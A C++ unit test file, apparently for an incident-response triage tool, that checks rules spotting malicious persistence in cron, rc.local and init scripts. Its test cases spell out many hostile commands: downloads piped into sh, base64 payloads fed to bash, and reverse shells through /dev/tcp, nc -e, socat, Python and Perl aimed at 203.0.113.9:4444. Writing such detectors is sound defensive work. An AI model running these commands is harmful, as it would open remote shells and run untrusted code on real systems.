    EXPECT_TRUE(plain[0].specimens.empty());
}

TEST(TriageSpecimens, HostileSpecimenRecordsNeitherCrashNorJoin) {
    auto in = input_of(
        {{"processes", {R"({"pid":5,"name":"a","exe_path":"/tmp/a","exe_deleted":true})"}},
         {"samples",
          {R"({"sha256":7,"sources":"x","status":["copied"]})",
           R"({"sources":[7,null,{"pid":"5"},{"pid":-5,"kind":"exe"},{"pid":5,"path":42}]})",
           R"({"sha256":"","path":"","sources":[{"pid":18446744073709551615}]})"}}});
    auto f = of_rule(in, "IRS-EXE-001");
    ASSERT_EQ(f.size(), 1u);
    // Only the one source with an integer pid 5 joins; its record has no hash and no status.
    ASSERT_EQ(f[0].specimens.size(), 1u);
    EXPECT_EQ(f[0].specimens[0].line, 2u);
    EXPECT_EQ(f[0].specimens[0].match, "held");
    EXPECT_EQ(specimen_text(f[0].specimens[0]),
              "(not hashed, no path) not copied (status unknown; mapped or held open)");
}

TEST(TriageSpecimens, SpecimensNotCopiedAreFindingsLowWhenOnlyTheirPlaceIsSuspicious) {
    auto in = input_of({{"samples",
                         {specimen(k_sha_evil, "/tmp/x/evil", "copied",
                                   json::array({source("exe", 4242, "/tmp/x/evil")})),
                          specimen(k_sha_lib, "/dev/shm/libhide.so", "budget",
                                   json::array({source("mapping", 4242, "/dev/shm/libhide.so")}),
                                   json::array({"preload", "temporary_place"})),
                          specimen(k_sha_other, "/tmp/big.bin", "too_large",
                                   json::array({source("descriptor", 9, "/tmp/big.bin")}),
                                   json::array({"temporary_place"})),
                          specimen("", "/memfd:x (deleted)", "denied",
                                   json::array({source("exe", 12, "")}), json::array({"memfd"})),
                          specimen(std::string(64, 'e'), "/usr/bin/a", "budget", json::array(),
                                   json::array({"all_executables"})),
                          specimen(std::string(64, 'f'), "/usr/bin/b", "budget", json::array(),
                                   json::array({"all_executables"})),
                          // Empty files share one record with nothing to copy: no finding.
                          specimen(std::string(64, 'a'), "/tmp/empty", "empty",
                                   json::array({source("descriptor", 7, "/tmp/empty")}),
                                   json::array({"deleted", "temporary_place"}))}}});
    auto f = of_rule(in, "IRS-SMP-001");
    ASSERT_EQ(f.size(), 4u);
    // medium first: the preloaded library over the budget, the memfd that was denied.
    EXPECT_EQ(f[0].urgency, Urgency::medium);
    EXPECT_EQ(f[0].evidence[0].line, 2u);
    EXPECT_EQ(f[0].why,
              "specimen /dev/shm/libhide.so (preload, temporary_place) was not copied: budget "
              "(--max-evidence-bytes 1 reached); held by pid 4242 (evil)");
    ASSERT_EQ(f[0].specimens.size(), 1u);
    EXPECT_EQ(f[0].specimens[0].match, "record");
    EXPECT_EQ(f[1].urgency, Urgency::medium);
    EXPECT_EQ(f[1].evidence[0].line, 4u);
    EXPECT_NE(f[1].why.find("denied"), std::string::npos);
    EXPECT_EQ(f[1].specimens.at(0).sha256, "");
    // Only where it lies: low, and says so.
    EXPECT_EQ(f[2].urgency, Urgency::low);
    EXPECT_EQ(f[2].evidence[0].line, 3u);
    EXPECT_NE(f[2].why.find("low: chosen for where it lies"), std::string::npos) << f[2].why;
    // --samples all-executables: one summary finding.
    EXPECT_EQ(f[3].urgency, Urgency::low);
    EXPECT_EQ(f[3].why,
              "2 specimens chosen only by --samples all-executables were not copied (budget 2)");
    EXPECT_EQ(f[3].evidence.size(), 2u);
}

TEST(TriageSpecimens, AMemberThatChangedWhileReadIsNoCopyEither) {
    json r = json::parse(specimen(k_sha_evil, "/tmp/x/evil", "copied",
                                  json::array({source("exe", 4242, "/tmp/x/evil")})));
    r["status"] = "changed_while_read";
    r["status_note"] = "the content changed between hashing and copying";
    auto f = of_rule(input_of({{"samples", {r.dump()}}}), "IRS-SMP-001");
    ASSERT_EQ(f.size(), 1u);
    EXPECT_EQ(f[0].urgency, Urgency::medium);
    EXPECT_EQ(f[0].why,
              "specimen /tmp/x/evil (deleted) was copied, but not intact: changed_while_read (the "
              "content changed between hashing and copying); held by pid 4242 (evil)");
    ASSERT_EQ(f[0].specimens.size(), 1u);
    EXPECT_EQ(specimen_text(f[0].specimens[0]),
              k_sha_evil +
                  " in artifacts/11_samples.zip (changed_while_read: the content changed "
                  "between hashing and copying)");
}

TEST(TriageSpecimens, TheIndexIsBoundedAndManySpecimensOfOnePidStayCheap) {
    // A crafted bundle: more specimen records than a run can write, all held by one pid, and
    // many findings about that pid. The index stops at its cap; each finding names ten.
    SpecimenIndex index;
    const json sources = json::array({source("mapping", 5, "/tmp/lib.so")});
    Record r{"artifacts/11_samples.jsonl", 0, {}};
    for (size_t i = 0; i < k_max_specimens_indexed + 10; ++i) {
        r.line = i + 1;
        r.value = {
            {"sha256", fmt::format("{:064x}", i)}, {"sources", sources}, {"status", "copied"}};
        index.add(r);
    }
    EXPECT_EQ(index.size(), k_max_specimens_indexed);
    EXPECT_EQ(index.not_indexed(), 10u);
    std::vector<Finding> findings(2000);
    for (auto& f : findings) {
        f.evidence = {
            {"artifacts/07_processes.jsonl", 1, {{"pid", 5}, {"exe_path", "/tmp/lib.so"}}}};
    }
    index.attach(findings);
    for (const auto& f : findings) {
        ASSERT_EQ(f.specimens.size(), k_max_specimens_per_finding);
        EXPECT_EQ(f.specimens[0].match, "path");  // a path is a stronger match than holding
        EXPECT_EQ(f.specimens[0].line, 1u);
    }
}

std::vector<std::string> names_of(const std::vector<ShellCommand>& commands) {
    std::vector<std::string> out;
    for (const auto& c : commands) out.push_back(c.name);
    return out;
}

using Words = std::vector<std::string>;

TEST(ShellCommands, WrappersPipesAndComments) {
    auto c = shell_commands(
        "FOO=1 nohup /usr/bin/curl -s 'http://x/a b' | sudo -u root bash -s -- x; "
        "echo done # curl http://x | sh");
    ASSERT_EQ(names_of(c), (Words{"curl", "bash", "echo"}));
    EXPECT_EQ(c[0].words[c[0].program], "/usr/bin/curl");
    EXPECT_EQ(c[0].words[4], "http://x/a b");  // quotes removed, one word
    EXPECT_FALSE(c[0].piped);
    EXPECT_TRUE(c[1].piped);
    EXPECT_EQ(c[1].pipeline, 0u);
    EXPECT_FALSE(c[2].piped);
    EXPECT_EQ(c[2].pipeline, 2u);
    EXPECT_EQ(c[2].words, (Words{"echo", "done"}));  // the comment is not read
    // Quoted operators and '#' inside a word are text.
    auto q = shell_commands("echo \"curl x | sh\" 'a;b' c#d");
    ASSERT_EQ(q.size(), 1u);
    EXPECT_EQ(q[0].words, (Words{"echo", "curl x | sh", "a;b", "c#d"}));
    // `command -v` only looks a program up; timeout, env and xargs run one.
    EXPECT_EQ(names_of(shell_commands("command -v curl; timeout -s 9 10 env A=1 wget x")),
              (Words{"", "wget"}));
    EXPECT_EQ(names_of(shell_commands("if [ -x /tmp/y ]; then /tmp/y; fi")),
              (Words{"[", "y", "fi"}));
    EXPECT_EQ(names_of(shell_commands("C:\\Tools\\NC.EXE -e cmd.exe h 1")), (Words{"nc"}));
}

TEST(ShellCommands, GroupsSubstitutionsRedirectionsAndStrings) {
    // A ( ) group is one element of the pipeline around it.
    auto g = shell_commands("(curl -fsSL http://x || wget -q -O- http://y) | sh");
    ASSERT_EQ(names_of(g), (Words{"curl", "wget", "sh"}));
    EXPECT_TRUE(g[2].piped);
    EXPECT_EQ(g[2].pipeline, 0u);  // curl and wget both feed sh
    // Substitutions name the command that holds them, quoted or not.
    auto s = shell_commands("eval \"$(wget -qO- http://x)\"; bash <(curl http://y); V=`uname -r`");
    ASSERT_EQ(names_of(s), (Words{"eval", "wget", "bash", "curl", "", "uname"}));
    EXPECT_EQ(s[1].host, "eval");
    EXPECT_EQ(s[3].host, "bash");
    EXPECT_EQ(s[5].host, "");  // an assignment runs nothing
    EXPECT_EQ(s[0].host, "");
    // Redirections apart from words, descriptor numbers kept, targets after blanks.
    auto r = shell_commands("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 2> /dev/null");
    ASSERT_EQ(r.size(), 1u);
    EXPECT_EQ(r[0].words, (Words{"bash", "-i"}));
    EXPECT_EQ(r[0].redirects, (Words{">&/dev/tcp/10.0.0.1/4444", "0>&1", "2>/dev/null"}));
    // The strings sh -c, su -c and alias run are read as commands of their own.
    EXPECT_EQ(names_of(shell_commands(
                  "su root -c 'curl x | sh' ; alias ls='nc -e /bin/sh h 1'; /bin/bash -lc 'id'")),
              (Words{"su", "curl", "sh", "alias", "nc", "bash", "id"}));
}

TEST(ShellCommands, BoundedOnHostileText) {
    std::string many;
    for (int i = 0; i < 5000; ++i) many += "a;";
    EXPECT_EQ(shell_commands(many).size(), k_max_shell_commands);
    EXPECT_LE(shell_commands(std::string(100000, '(')).size(), k_max_shell_commands);
    std::string nested;
    for (int i = 0; i < 3000; ++i) nested += "$(";
    EXPECT_LE(shell_commands(nested + "x").size(), k_max_shell_commands);
    std::string strings = "sh -c 'sh -c \"sh -c \\\"sh -c \\\\\\\"sh -c x\\\\\\\"\\\"\"'";
    EXPECT_LE(shell_commands(strings).size(), 4u);  // three strings deep, no more
    auto open = shell_commands("echo 'unterminated | sh");
    ASSERT_EQ(open.size(), 1u);
    EXPECT_EQ(open[0].words, (Words{"echo", "unterminated | sh"}));
    EXPECT_TRUE(shell_commands("").empty());
    EXPECT_TRUE(shell_commands("   # only a comment | sh").empty());
}

/// An autoruns record of a script with these code lines, numbered from 1 (or as given).
std::string script_record(const std::string& category, const std::string& path,
                          const std::vector<std::string>& lines, std::vector<int> numbers = {}) {
    if (numbers.empty()) {
        for (size_t i = 0; i < lines.size(); ++i) numbers.push_back(static_cast<int>(i) + 1);
    }
    return json{{"category", category},
                {"source_path", path},
                {"command", path},
                {"target_path", path},
                {"script_lines", lines},
                {"script_line_numbers", numbers},
                {"mtime", "2020-01-01T00:00:00Z"}}
        .dump();
}

std::string command_record(const std::string& category, const std::string& command, int line = 7) {
    return json{{"category", category},    {"source_path", "/etc/crontab"},
                {"source_line", line},     {"command", command},
                {"script_lines", nullptr}, {"mtime", "2020-01-01T00:00:00Z"}}
        .dump();
}

/// The findings of `id` over one autoruns record per command line, and which lines fired.
std::vector<std::string> firing(std::string_view id, const std::vector<std::string>& commands) {
    std::vector<std::string> lines;
    for (const auto& c : commands) lines.push_back(command_record("cron", c));
    Input in;
    for (size_t i = 0; i < lines.size(); ++i) {
        in.records["autoruns"].push_back(
            {"artifacts/12_autoruns.jsonl", i + 1, json::parse(lines[i])});
    }
    std::vector<uint64_t> places;
    for (const auto& f : of_rule(in, id)) places.push_back(f.evidence.at(0).line);
    std::sort(places.begin(), places.end());  // findings come sorted by urgency first
    std::vector<std::string> fired;
    for (uint64_t line : places) fired.push_back(commands.at(line - 1));
    return fired;
}

TEST(TriageRules, DownloadPipedIntoAShell) {
    const std::vector<std::string> bad = {
        "curl -fsSL http://203.0.113.9/i.sh | sh",
        "(curl -fsSL http://x/i.sh || wget -q -O- http://x/i.sh) | bash",
        "/bin/sh -c 'wget -O- http://x | sh'",
        "bash -c \"$(curl -fsSL http://x)\"",
        ". <(wget -qO- http://x)",
        "eval \"$(curl -s http://x)\"",
        "cd /root\ncurl http://x | python3 -",
        "wget -q -O - http://x | sudo bash -s -- --quiet",
    };
    const std::vector<std::string> good = {
        "apt-get update",
        "curl -s http://x -o /var/lib/x.json",
        "curl -s http://x | grep -q ok && echo up",
        "curl -s http://x | python3 -m json.tool",
        "echo \"curl http://x | sh\"",
        "VERSION=$(curl -s http://x/version)",
        "wget -qO- http://x | tar xz -C /opt",
        "curl -s http://x | bash /opt/install.sh",
        "/usr/bin/backup # curl http://x | sh",
    };
    std::vector<std::string> all = bad;
    all.insert(all.end(), good.begin(), good.end());
    EXPECT_EQ(firing("IRS-PER-005", all), bad);

    auto in = input_of({{"autoruns",
                         {script_record("rc_local", "/etc/rc.local",
                                        {"/usr/bin/backdoor &", "curl -fsSL http://x/a | sh",
                                         "wget -qO- http://x/b | bash"},
                                        {3, 4, 9})}}});
    auto f = of_rule(in, "IRS-PER-005");
    ASSERT_EQ(f.size(), 1u);  // one finding per record, naming the first line
    EXPECT_EQ(f[0].urgency, Urgency::high);
    EXPECT_EQ(f[0].confidence, Confidence::high);
    EXPECT_EQ(f[0].attack, "T1105");
    EXPECT_EQ(f[0].why,
              "rc_local /etc/rc.local:4 pipes curl's download into sh: 'curl -fsSL http://x/a | "
              "sh' (and 1 more line like it)");
    EXPECT_EQ(f[0].evidence[0].fields["script_line"], "curl -fsSL http://x/a | sh");
    EXPECT_EQ(f[0].evidence[0].fields["script_line_number"], 4);
    EXPECT_EQ(f[0].evidence[0].fields["source_path"], "/etc/rc.local");
    EXPECT_FALSE(f[0].evidence[0].fields.contains("script_lines"));  // never the whole script
}

TEST(TriageRules, ScriptRunsFromATemporaryPlace) {
    const std::vector<std::string> bad = {
        "/dev/shm/.x/run --daily",
        "nohup /tmp/.x/miner >/dev/null 2>&1 &",
        "sh /var/tmp/a.sh",
        ". /tmp/env",
        "chmod +x /tmp/x && /usr/bin/true",
        "chmod 0755 /dev/shm/y",
        "cd /tmp; ./x",
        "export LD_PRELOAD=/dev/shm/libx.so",
        "if [ -x /tmp/y ]; then /tmp/y; fi",
    };
    // What /etc/init.d/x11-common and clean-up jobs do with /tmp: no program runs from it.
    const std::vector<std::string> good = {
        "DIR=\"/tmp/$1\"",
        "fn=\"$(mktemp /tmp/testwriteable.XXXXXXXXXX)\" || return 1",
        "rm -rf /tmp/.X11-unix/*",
        "if [ -d \"/tmp/$ICE_DIR\" ] && [ -d \"/tmp/$SOCKET_DIR\" ]; then",
        "find /tmp /var/tmp -mtime +7 -delete",
        "chmod 1777 /tmp/.ICE-unix",
        "chmod 01777 /tmp/.X11-unix",
        "chmod -R 755 /tmp/build",
        "chmod 644 /tmp/x",
        "cd /tmp && ls",
        "sh -c 'echo /tmp/x'",
        "apt-get update",
    };
    std::vector<std::string> lines = bad;
    lines.insert(lines.end(), good.begin(), good.end());
    std::vector<std::string> records;
    for (const auto& l : lines)
        records.push_back(script_record("cron_script", "/etc/cron.daily/x", {l}));
    Input in;
    for (size_t i = 0; i < records.size(); ++i) {
        in.records["autoruns"].push_back(
            {"artifacts/12_autoruns.jsonl", i + 1, json::parse(records[i])});
    }
    std::vector<uint64_t> places;
    for (const auto& f : of_rule(in, "IRS-PER-006")) {
        places.push_back(f.evidence.at(0).line);
        EXPECT_EQ(f.attack, "T1053.003");  // the technique of the autorun's category
        EXPECT_EQ(f.urgency, Urgency::high);
    }
    std::sort(places.begin(), places.end());
    std::vector<std::string> fired;
    for (uint64_t line : places) fired.push_back(lines.at(line - 1));
    EXPECT_EQ(fired, bad);
    // Entries' own commands are IRS-PER-003's, not this rule's.
    EXPECT_TRUE(firing("IRS-PER-006", {"/tmp/x", "sh /tmp/y"}).empty());
    EXPECT_EQ(firing("IRS-PER-003", {"/tmp/x"}).size(), 1u);
}

TEST(TriageRules, DecodingIsMediumAndHighWhenTheResultRuns) {
    const std::vector<std::string> commands = {
        "echo aGk= | base64 -d > /etc/x",                                   // medium
        "echo L3Vz | base64 --decode | bash",                               // high
        "eval \"$(echo ZWNobw== | base64 -di)\"",                           // high
        "xxd -r -p /var/lib/x.hex > /usr/local/bin/x",                      // medium
        "python3 -c \"import base64;exec(base64.b64decode('cHJpbnQ='))\"",  // high
        "openssl enc -d -base64 -in /var/x -out /var/y",                    // medium
        "base64 /etc/hostname",
        "xxd /bin/ls | head",
        "base64 --wrap=0 /etc/hostname",
        "echo base64 -d",
        "apt-get update",
    };
    auto fired = firing("IRS-PER-007", commands);
    EXPECT_EQ(fired, std::vector<std::string>(commands.begin(), commands.begin() + 6));
    std::vector<std::string> lines;
    for (const auto& c : commands) lines.push_back(command_record("cron", c));
    Input in;
    for (size_t i = 0; i < lines.size(); ++i) {
        in.records["autoruns"].push_back({"a.jsonl", i + 1, json::parse(lines[i])});
    }
    std::map<uint64_t, Finding> by_line;
    for (auto& f : of_rule(in, "IRS-PER-007")) by_line.emplace(f.evidence[0].line, f);
    ASSERT_EQ(by_line.size(), 6u);
    for (uint64_t line : {1u, 4u, 6u}) {
        EXPECT_EQ(by_line.at(line).urgency, Urgency::medium) << line;
        EXPECT_EQ(by_line.at(line).confidence, Confidence::medium) << line;
    }
    for (uint64_t line : {2u, 3u, 5u}) {
        EXPECT_EQ(by_line.at(line).urgency, Urgency::high) << line;
        EXPECT_EQ(by_line.at(line).confidence, Confidence::high) << line;
    }
    EXPECT_EQ(by_line.at(2).attack, "T1140");
    EXPECT_EQ(by_line.at(2).why,
              "cron /etc/crontab:7 decodes with base64 and pipes the result into bash: 'echo "
              "L3Vz | base64 --decode | bash'");
}

TEST(TriageRules, ReverseShellIdioms) {
    const std::vector<std::string> bad = {
        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' &",
        "0<&196;exec 196<>/dev/tcp/203.0.113.9/4444; sh <&196 >&196 2>&196",
        "nc -e /bin/sh 203.0.113.9 4444",
        "ncat 203.0.113.9 4444 --sh-exec /bin/bash",
        "busybox nc -lp 4444 -e /bin/sh",
        "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.9:4444",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f",
        "python3 -c 'import socket,subprocess,os;s=socket.socket();"
        "s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);import pty;pty.spawn(\"sh\")'",
        "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
        "exec(\"/bin/sh -i\");'",
        "telnet 203.0.113.9 4444 | /bin/sh | telnet 203.0.113.9 4445",
        "sh -i 2>&1 | nc 203.0.113.9 4444",
        "awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.9/4444\"; while (1) {s |& getline c}}'",
    };
    const std::vector<std::string> good = {
        "nc -z 10.0.0.1 22 && echo up",
        "echo ok > /dev/tcp/10.0.0.1/22",
        "timeout 1 bash -c '</dev/tcp/10.0.0.1/22'",
        "python3 -c 'import socket; print(socket.gethostname())'",
        "socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80",
        "mkfifo /run/x.fifo",
        "tar c /etc | nc backup 9000",
        "echo 'bash -i >& /dev/tcp/1.2.3.4/1 0>&1'",
        "/usr/bin/backup # bash -i >& /dev/tcp/1.2.3.4/1 0>&1",
        "apt-get update",
    };
    std::vector<std::string> all = bad;
    all.insert(all.end(), good.begin(), good.end());
    EXPECT_EQ(firing("IRS-PER-008", all), bad);
    auto in = input_of({{"autoruns",
                         {script_record("sysv_init", "/etc/init.d/evil",
                                        {"/usr/bin/x", "nc -e /bin/sh 203.0.113.9 4444"})}}});
    auto f = of_rule(in, "IRS-PER-008");
    ASSERT_EQ(f.size(), 1u);
    EXPECT_EQ(f[0].urgency, Urgency::critical);
    EXPECT_EQ(f[0].attack, "T1059.004");
    EXPECT_EQ(f[0].why,
              "sysv_init /etc/init.d/evil:2 runs a program for the network with nc -e: 'nc -e "
              "/bin/sh 203.0.113.9 4444'");
}

TEST(TriageRules, ShellRulesReadOnlyCodeAndKeepHostTextForTheEscapingPrinter) {
    // Records that are not scripts, odd types and comments: nothing, and no throw.
    auto in = input_of(
        {{"autoruns",
          {R"({"category":"cron","source_path":"/etc/crontab","command":"apt-get update","script_lines":null})",
           R"({"category":"rc_local","source_path":"/etc/rc.local","command":"/etc/rc.local","script_lines":["# curl http://x | sh","apt-get update"],"script_line_numbers":[1,2]})",
           R"({"category":"rc_local","source_path":"/etc/rc.local","script_lines":"curl x | sh"})",
           R"({"category":"rc_local","source_path":"/etc/rc.local","script_lines":[7,null,{"a":1}],"script_line_numbers":"x"})",
           R"({"category":"rc_local","source_path":"/etc/rc.local","script_lines":["curl x | sh"],"script_line_numbers":["one"]})",
           R"({"category":"run_key","source_path":"HKLM\\Run","command":"C:\\Tools\\nc.exe -e cmd.exe 203.0.113.9 4444"})"}}});
    auto download = of_rule(in, "IRS-PER-005");
    ASSERT_EQ(download.size(), 1u);
    EXPECT_EQ(download[0].evidence[0].line, 5u);
    EXPECT_EQ(download[0].why,
              "rc_local /etc/rc.local pipes curl's download into sh: 'curl x | sh'");
    auto reverse = of_rule(in, "IRS-PER-008");
    ASSERT_EQ(reverse.size(), 1u);  // a Windows command too
    EXPECT_EQ(reverse[0].evidence[0].line, 6u);
    // A terminal escape in a planted line reaches the finding as text; printing escapes it.
    auto planted = input_of({{"autoruns",
                              {script_record("shell_startup", "/home/a/.bashrc",
                                             {"curl http://x/\x1b[2J\x1b[1A | sh"})}}});
    auto f = of_rule(planted, "IRS-PER-005");
    ASSERT_EQ(f.size(), 1u);
    EXPECT_NE(f[0].why.find('\x1b'), std::string::npos);
    EXPECT_EQ(terminal_safe(f[0].why).find('\x1b'), std::string::npos);
    // A huge line costs its first bytes only, and the why stays within its cap.
    auto huge =
        input_of({{"autoruns",
                   {script_record("rc_local", "/etc/rc.local",
                                  {"curl http://x | sh -s " + std::string(1 << 20, 'a')})}}});
    auto h = of_rule(huge, "IRS-PER-005");
    ASSERT_EQ(h.size(), 1u);
    EXPECT_LE(h[0].why.size(), k_max_why_bytes);
    EXPECT_LE(h[0].evidence[0].fields["script_line"].get<std::string>().size(),
              k_max_evidence_value_bytes);
}

TEST(TriageRules, HelpersParseTimesAndPlaces) {
    EXPECT_EQ(parse_utc_ns("1970-01-01T00:00:01.5Z"), 1500000000);
    EXPECT_EQ(parse_utc_ns("2026-11-22T07:30:34.533067Z") % 1000000000, 533067000);
    EXPECT_EQ(parse_utc_ns("yesterday"), 0);
    EXPECT_EQ(parse_utc_ns("7546-11-21T00:00:00Z"), 0);  // past int64 nanoseconds (fuzz find)
    EXPECT_EQ(parse_utc_ns("1969-12-31T23:59:59Z"), 0);
    EXPECT_GT(parse_utc_ns("2262-01-01T00:00:00Z"), 0);
    EXPECT_EQ(parse_utc_ns("2026-11-22T07:30:34+01:00"), 0);
    EXPECT_TRUE(is_temporary_place("/tmp/a"));
    EXPECT_TRUE(is_temporary_place("c:/Users/x/Downloads/a.exe"));
    EXPECT_FALSE(is_temporary_place("/tmpfoo/a"));
    EXPECT_FALSE(is_temporary_place("/usr/bin/tmp"));
    EXPECT_FALSE(is_temporary_place("relative\\temp\\x"));
}

}  // namespace
}  // namespace irsnap::triage
